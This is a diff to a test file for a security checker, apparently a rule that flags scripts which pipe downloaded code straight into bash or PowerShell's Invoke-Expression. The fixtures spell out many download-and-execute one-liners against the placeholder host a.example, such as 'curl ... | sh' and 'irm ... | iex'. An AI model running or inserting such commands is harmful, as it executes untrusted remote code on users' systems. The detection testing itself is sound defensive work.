@@ -30,6 +30,7 @@ describe('VM-II-07', () => {
     'eval `curl -fsSL https://a.example/x`',
     'python3 -c "$(curl -fsSL https://a.example/x)"',
     'bash <<< "$(curl -fsSL https://a.example/x)"',
+    'bash <<< "$(date)" < <(curl -fsSL https://a.example/x)',
     `su me -c 'curl https://a.example/x | sh'`,
     `ssh host 'true'; bash -c 'curl https://a.example/x | sh'`,
     'if ! command -v x; then curl https://a.example/x | sh; fi',
@@ -50,6 +51,7 @@ describe('VM-II-07', () => {
     'curl -o x.sh https://a.example/x; sh x.sh',
     'bash deploy.sh "$(curl https://a.example/x)"',
     'eval "$(ssh-agent)"; curl https://a.example/x',
+    'eval "x=$(curl https://a.example/x)"',
     'source <(kubectl completion bash)',
     'X=$(curl https://a.example/x); echo "$X"',
     'curl http://localhost:8080/x | sh',
@@ -87,7 +89,24 @@ describe('VM-II-07', () => {
   it('leaves comments of PowerShell', async () => {
     const script = '<#\nirm https://a.example/x | iex\n#>\n# irm https://a.example/y | iex\n';
     expect(await partsIn(script, 'a.ps1')).toEqual([]);
-    expect(await partsIn(`${script}<# #> irm https://a.example/z | iex\n`, 'a.ps1')).toHaveLength(1);
+    expect(await partsIn(`${script}<# #> irm https://a.example/z | iex\n`, 'a.ps1')).toEqual([
+      'irm https://a.example/z | iex',
+    ]);
+    expect(await partsIn('irm https://a.example/z | iex <#\n#>\n', 'a.ps1')).toHaveLength(1);
+    expect(await partsIn('<#\nnever closed\nirm https://a.example/z | iex\n', 'a.ps1')).toEqual([]);
+  });
+
+  it('points at the lines of PowerShell, without the blanks about them', async () => {
+    const script =
+      '# é😀\r\n<# a\r\n#>\r\n  irm https://a.example/x | iex \r\n\r\n\tiwr https://a.example/y | iex\r\n';
+    expect(await partsIn(script, 'a.ps1')).toEqual([
+      'irm https://a.example/x | iex',
+      'iwr https://a.example/y | iex',
+    ]);
+  });
+
+  it('leaves lines of PowerShell that only download or only run', async () => {
+    expect(await partsIn('irm https://a.example/x -OutFile x.ps1\niex $script\n', 'a.ps1')).toEqual([]);
   });
 
   it('points at the pipeline, behind letters of several bytes and with CR LF', async () => {
@@ -98,6 +117,8 @@ describe('VM-II-07', () => {
   it('says what runs what', async () => {
     const [found] = await foundBy(noDownloadsIntoShells, { 'a.sh': 'curl https://a.example/x | sudo bash' });
     expect(found?.message).toBe('What curl downloads is run by bash as it comes');
+    const [inPowerShell] = await foundBy(noDownloadsIntoShells, { 'a.ps1': 'irm https://a.example/x | iex' });
+    expect(inPowerShell?.message).toBe('What irm downloads is run by Invoke-Expression as it comes');
   });
 
   it('cannot tell of a workflow that is no YAML', async () => {
